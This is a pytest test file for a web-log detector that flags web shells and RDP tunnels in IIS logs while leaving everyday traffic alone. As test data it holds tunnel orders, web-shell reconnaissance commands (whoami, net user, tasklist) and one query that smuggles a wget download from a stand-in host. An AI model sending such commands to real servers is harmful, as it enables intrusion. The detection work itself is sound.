"""Pages used like a shell or a tunnel are found; programs, people, monitors and scanners at work are not."""

import random
from datetime import timedelta

import pytest

from indicia.model.finding import Confidence, Severity, Stage

from .conftest import BROWSER, SITE, START

OUTSIDE = "203.0.113.9"


def tunnel(web, stem="/shop/help.aspx", query="proxy&port=3389&ip=127.0.0.1", count=400):
    """Orders to a tunnel, then data both ways at machine pace."""
    web.ask(1000, OUTSIDE, "GET", stem, query, agent="-")
    for number in range(count):
        method = "POST" if number % 3 == 0 else "GET"
        web.ask(1001 + number // 3, OUTSIDE, method, stem, "proxy", agent="-")
    return web


def shell(web, days=60, used=(45, 46, 52), stem="/images/thumb.aspx", agent=BROWSER, client=OUTSIDE):
    """Somebody who types: uneven pauses, a few sessions, long after the log began."""
    web.people(days)
    rng = random.Random(4)
    for day in used:
        at = START + timedelta(days=day, hours=2)
        for _ in range(14):
            at += timedelta(seconds=rng.choice((3, 5, 8, 20, 45, 70, 160, 400)))
            web.ask(at, client, "POST", stem, agent=agent)
    return web


def test_the_recorded_tunnel(corpora, web):
    """The log of a real tunnel: all 4,298 requests to one page, called a tunnel to the port it was told."""
    path = corpora / "iis-logs/evtx-attack-samples/Tunna_rdp_tunnel_IIS.log"
    web.log(path.read_bytes(), path.name)
    (finding,) = web.findings()
    assert (finding.severity, finding.stage, finding.confidence) == (
        Severity.HIGH,
        Stage.IMPLANTED,
        Confidence.MODERATE,
    )
    assert (finding.count, finding.objects, finding.clients) == (4298, ("/erp/conn.aspx",), ("10.0.2.17",))
    assert "127.0.0.1:3389" in finding.summary
    first = finding.exhibits[0]
    data = path.read_bytes()
    assert data[first.at.offset : first.at.offset + first.at.length].decode() == first.raw
    assert first.fields["url.query"] == "proxy&port=3389&ip=127.0.0.1"
    assert len({(one.at.offset) for one in finding.exhibits}) == len(finding.exhibits) == 12


def test_other_logs_of_the_corpora_are_silent(corpora, web):
    """Nothing in the other recorded web logs."""
    for path in sorted((corpora / "iis-logs").rglob("*.log")):
        if "Tunna" not in path.name:
            web.log(path.read_bytes(), path.name)
    assert web.findings() == []


def test_a_tunnel_among_visitors(web):
    """Orders with another spelling, on a busy site."""
    (finding,) = tunnel(web.people(3), query="cmd=connect&target=10.0.0.5&port=445").findings()
    assert (finding.severity, finding.stage) == (Severity.HIGH, Stage.IMPLANTED)
    assert "10.0.0.5:445" in finding.summary


@pytest.mark.parametrize(
    "change",
    [
        lambda web: tunnel(web, query="-"),
        lambda web: tunnel(web, query="proxy&port=99999&ip=127.0.0.1"),
        lambda web: tunnel(web, count=60),
    ],
    ids=["no order", "no port", "few requests"],
)
def test_not_every_quick_client_is_a_tunnel(web, change):
    """Each criterion of a tunnel failing once."""
    assert [finding for finding in change(web.people(3)).findings() if finding.stage] == []


def relay(web, first=0, every=2, days=80):
    """A device that talks through a page of its own on many days: the same orders, the same pace."""
    web.people(days)
    for day in range(first, days, every):
        for number in range(40):
            method = "POST" if number % 3 == 0 else "GET"
            query = "proxy&port=20007&ip=192.168.4.20" if number == 0 else "proxy"
            at = START + timedelta(days=day, hours=9, seconds=number // 3)
            web.ask(at, OUTSIDE, method, "/pos/bridge.ashx", query, agent="-")
    return web


def test_what_relays_day_by_day_since_ever_is_no_break_in(web):
    """It is told, once, and has no stage."""
    (finding,) = relay(web).findings()
    assert (finding.severity, finding.stage, finding.confidence) == (Severity.MEDIUM, None, Confidence.WEAK)
    assert "from the beginning of the log" in finding.summary


@pytest.mark.parametrize("change", [{"first": 20}, {"every": 5}, {"days": 40}], ids=["new", "seldom", "short log"])
def test_a_tunnel_that_came_or_is_seldom_used_is_one(web, change):
    """Each criterion failing once; in a short log nobody knows what was before."""
    (finding,) = relay(web, **change).findings()
    assert (finding.severity, finding.stage) == (Severity.HIGH, Stage.IMPLANTED)


def test_somebody_typing_into_a_new_page(web):
    """A shell driven by hand: medium, no stage, every reason with its number."""
    (finding,) = shell(web).findings()
    assert (finding.severity, finding.stage, finding.confidence) == (Severity.MEDIUM, None, Confidence.WEAK)
    assert (finding.count, finding.objects) == (42, ("/images/thumb.aspx",))
    for part in ("1 client used it", "42 of 42 requests were POST", "nothing else", "2023-02-15", "somebody who types"):
        assert part in finding.summary


COMMANDS = ("a=whoami", "a=ipconfig+/all", "a=net+user", "a=tasklist")


def paced(web, client=OUTSIDE, days=1, queries=COMMANDS, seconds=180):
    """Requests as regular as a clock's, on so many days."""
    web.people(40)
    for number in range(40 * days):
        at = START + timedelta(days=20 + number // 40, seconds=seconds * (number % 40) + number % 3)
        web.ask(at, client, "POST", "/images/x.aspx", queries[number % len(queries)], agent="-")
    return web


def test_commands_at_a_steady_pace(web):
    """A script that waits between its commands is no monitor."""
    (finding,) = paced(web).findings()
    assert finding.severity is Severity.MEDIUM
    assert "`whoami`" in finding.summary


@pytest.mark.parametrize(
    "change",
    [
        {"client": "10.1.2.3"},
        {"client": "127.0.0.1"},
        {"days": 10},
        {"queries": ("a=1", "b=2", "c=3")},
    ],
    ids=str,
)
def test_what_keeps_time_otherwise_is_a_monitor(web, change):
    """From inside, by the server itself, on ten days and more, or without a command."""
    assert paced(web, **change).findings() == []


def test_one_reason_less_is_low(web):
    """The same by a client of the own network may be an administrator."""
    (finding,) = shell(web, client="10.1.2.3").findings()
    assert finding.severity is Severity.LOW


def test_a_command_in_the_query(web):
    """What was asked for counts more than who asked."""
    web.people(20)
    for number, command in enumerate(("whoami", "ipconfig+/all", "net+user", "tasklist", "dir+c:%5C")):
        at = START + timedelta(days=15, seconds=40 * number * number)
        web.ask(at, OUTSIDE, "GET", "/uploads/x.aspx", f"a={command}", agent="python-requests/2.31")
    (finding,) = web.findings()
    assert finding.severity is Severity.MEDIUM
    assert "`whoami`" in finding.summary


def every(web, seconds, count, *request, jitter=0.0, **more):
    rng = random.Random(1)
    for number in range(count):
        web.ask(int(seconds * number + rng.random() * jitter), *request, **more)
    return web


def _soap(web):
    return every(
        web.people(3), 20, 9000, "10.0.0.8", "POST", "/ws/orders.asmx", agent="MS+Web+Services+Client", jitter=19
    )


def _interface(web):
    return every(
        web.people(10), 120, 7200, "10.0.0.8", "POST", "/api/push.ashx", agent="python-requests/2.31", jitter=110
    )


def _interface_for_a_day(web):
    return every(web.people(1), 30, 2800, "203.0.113.40", "POST", "/api/push.ashx", agent="okhttp/4.9", jitter=29)


def _probe(web):
    return every(web.people(3), 30, 8000, "10.0.0.2", "GET", "/health.aspx", "probe=1", agent="-")


def _posting_probe(web):
    return every(web.people(3), 60, 4000, "203.0.113.77", "POST", "/status.ashx", agent="-")


def _own_probe(web):
    return every(web.people(3), 7, 9000, "127.0.0.1", "POST", "/owa/proxy.aspx", agent="-", jitter=100)


def _signed_in(web):
    return every(web.people(3), 50, 900, "10.0.0.9", "POST", "/feed/in.ashx", user="CORP%5Csvc", agent="-", jitter=49)


def _callback(web):
    web.people(90)
    rng = random.Random(2)
    for day in range(0, 90, 2):
        for _ in range(rng.randrange(1, 5)):
            at = START + timedelta(days=day, seconds=rng.randrange(86_000))
            web.ask(at, f"203.0.113.{rng.choice((20, 21))}", "POST", "/pay/notify.aspx", agent="Pay-IPN/1.0")
    return web


def _polling(web):
    web.people(2)
    for number in range(5000):
        at = START + timedelta(hours=9, seconds=2 * number)
        web.ask(at, "198.51.100.77", "POST", "/chat/poll.ashx", f"r={number}", referer=f"{SITE}/chat/room.aspx")
    return web


def _upload(web):
    web.people(5)
    for number in range(60):
        at = START + timedelta(days=3, seconds=11 * number * number % 9000)
        web.ask(at, "198.51.100.9", "POST", "/files/upload.aspx", referer=f"{SITE}/files/default.aspx")
    return web


def _scanner(web):
    web.people(20)
    for number in range(3000):
        at = START + timedelta(days=12, seconds=number // 10)
        web.ask(at, "203.0.113.66", "GET", f"/x{number}.php", "cmd=whoami", status=404)
        web.ask(at, "203.0.113.66", "POST", "/default.aspx", "cmd=whoami", status=200)
    return web


def _import_at_night(web):
    web.people(60)
    for day in (30, 37, 44, 51, 58):
        for number in range(300):
            at = START + timedelta(days=day, hours=3, seconds=number // 4)
            web.ask(at, "10.0.0.31", "POST", "/jobs/import.ashx", agent="-")
    return web


def _map_proxy(web):
    web.people(5)
    for number in range(2000):
        at = START + timedelta(days=2, seconds=number // 4)
        web.ask(
            at, "198.51.100.4", "POST" if number % 4 == 0 else "GET", "/map/proxy.ashx",
            f"host=tiles.example.test&port=443&tile={number}", referer=f"{SITE}/map/",
        )  # fmt: skip
    return web


def _port_monitor(web):
    hosts = [f"host=10.0.0.{number}&port={port}" for number in range(40) for port in (25, 443)]
    web.people(5)
    for number in range(6000):
        at = START + timedelta(seconds=60 * (number // 80) + number % 80 // 20)
        web.ask(at, "10.0.0.2", "GET", "/tools/check.aspx", hosts[number % 80], agent="-")
    return web


def _behind_one_address(web):
    rng = random.Random(3)
    for number in range(4000):
        page = rng.choice(("/default.aspx", "/basket.aspx", "/pay.aspx"))
        web.ask(number * 20, "10.0.0.1", rng.choice(("GET", "POST")), page, f"id={number}")
        web.ask(number * 20, "10.0.0.1", "GET", "/site.css")
    return web


def _ews(web):
    return every(web.people(3), 15, 9000, "10.0.0.50", "POST", "/EWS/Exchange.asmx", agent="Client/1.0", jitter=300)


def _scanner_of_one_page(web):
    web.people(60)
    for number in range(6):
        at = START + timedelta(days=50, seconds=90 * number * number)
        web.ask(at, f"203.0.113.{number % 2}", "GET", "/cgi-bin/setup.cgi", "cmd=wget+http://x.test/;whoami", agent="-")
    return web


def _scanner_answered_by_all(web):
    web.people(60)
    for number in range(2000):
        at = START + timedelta(days=50, seconds=number)
        web.ask(at, "203.0.113.6", "GET", f"/s{number % 400}.php", f"c={('whoami', 'id', 'ls')[number % 3]}", agent="-")
    return web


@pytest.mark.parametrize("build", [_scanner_of_one_page, _scanner_answered_by_all], ids=lambda build: build.__name__)
def test_scanners_of_a_site_that_answers_everything_are_low(web, build):
    """Commands that were sent to any address and answered like any address: low at most."""
    assert [finding.summary for finding in build(web).findings() if finding.severity > Severity.LOW] == []


@pytest.mark.parametrize(
    "build",
    [
        _soap, _interface, _interface_for_a_day, _probe, _posting_probe, _own_probe, _signed_in, _callback, _polling,
        _upload, _scanner, _map_proxy, _port_monitor, _behind_one_address, _ews, lambda web: web.people(120),
    ],
    ids=lambda build: build.__name__.strip("_"),
)  # fmt: skip
def test_everyday_traffic_is_silent(web, build):
    """Programs and people at work, one kind each."""
    assert [finding.summary for finding in build(web).findings()] == []


def test_a_program_that_runs_now_and_then_is_low(web):
    """An import at night, new since a month, by one client alone: said, and no more than low."""
    (finding,) = _import_at_night(web).findings()
    assert (finding.severity, finding.stage) == (Severity.LOW, None)
